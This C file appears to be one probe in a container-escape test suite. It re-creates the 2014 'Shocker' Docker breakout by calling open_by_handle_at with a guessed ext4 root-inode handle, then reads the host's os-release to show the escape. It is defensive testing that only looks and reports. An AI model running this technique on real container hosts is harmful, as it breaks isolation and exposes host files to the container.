/* escape: shocker
 * blocked-from: 04
 * explain: open_by_handle_at opens a file by inode number, past the container's root
 *
 * "Shocker" (2014) broke out of Docker 0.11: a container that held
 * CAP_DAC_READ_SEARCH called open_by_handle_at(2) with a guessed file
 * handle. A handle names an inode on a filesystem, not a path, so the
 * kernel never checks whether the file lies under the container's root.
 * On ext4 the root directory is always inode 2: guess that handle, and
 * the host's / opens. We only look (fstat, one read), then close.
 * Honest results: from 04 on the guess fails by accident - our root is
 * an overlay, which does not decode file handles (ESTALE) - but one bind
 * mount from the host's disk (docker's /etc/hosts; shocker used
 * /.dockerinit) would bring it back. What really closes it: from 07 the
 * kernel wants CAP_DAC_READ_SEARCH in the *initial* user namespace (or
 * keeps the handle inside our own mount), and 08 drops that capability
 * and denies the call outright.
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

#define FILEID_INO32_GEN 1 /* ext2/3/4: 32-bit inode number + generation */
#define EXT4_ROOT_INODE 2

/* The PRETTY_NAME line of etc/os-release under dir_fd: whose root it is. */
static void host_name(int dir_fd, char *out, size_t len)
{
	char text[1024];
	ssize_t got = 0;
	int fd = openat(dir_fd, "etc/os-release", O_RDONLY);

	snprintf(out, len, "nothing (no etc/os-release)");
	if (fd >= 0)
		got = read(fd, text, sizeof(text) - 1);
	if (fd >= 0)
		close(fd);
	if (got > 0) {
		char *line;

		text[got] = '\0';
		line = strstr(text, "PRETTY_NAME=");
		if (line)
			snprintf(out, len, "%.*s", (int)strcspn(line, "\n"), line);
	}
}

int main(void)
{
	struct {
		struct file_handle head;
		unsigned int inode_and_generation[2];
	} handle = {.head = {.handle_bytes = 8, .handle_type = FILEID_INO32_GEN},
		    .inode_and_generation = {EXT4_ROOT_INODE, 0}};
	struct stat ours, theirs;
	char name[128];
	int root_fd, found_fd;

	root_fd = open("/", O_RDONLY | O_DIRECTORY);
	if (root_fd < 0 || fstat(root_fd, &ours) < 0)
		cannot_test("open /: %s", strerror(errno));
	found_fd = open_by_handle_at(root_fd, &handle.head, O_RDONLY | O_DIRECTORY);
	if (found_fd < 0) {
		int error = errno;

		close(root_fd);
		if (error == EPERM)
			blocked("open_by_handle_at(inode 2): %s (needs CAP_DAC_READ_SEARCH in the "
				"host's user namespace, or a filter said no)",
				strerror(error));
		blocked("open_by_handle_at(inode 2): %s (the filesystem under / will not "
			"open this handle)",
			strerror(error));
	}
	fstat(found_fd, &theirs);
	close(root_fd);
	if (theirs.st_ino == ours.st_ino && theirs.st_dev == ours.st_dev) {
		close(found_fd);
		blocked("open_by_handle_at(inode 2) opened our own root: nothing outside");
	}
	host_name(found_fd, name, sizeof(name));
	close(found_fd);
	escaped("open_by_handle_at(inode 2) opened the filesystem's real root (inode %lu, ours is "
		"%lu); its etc/os-release says %s",
		(unsigned long)theirs.st_ino, (unsigned long)ours.st_ino, name);
}
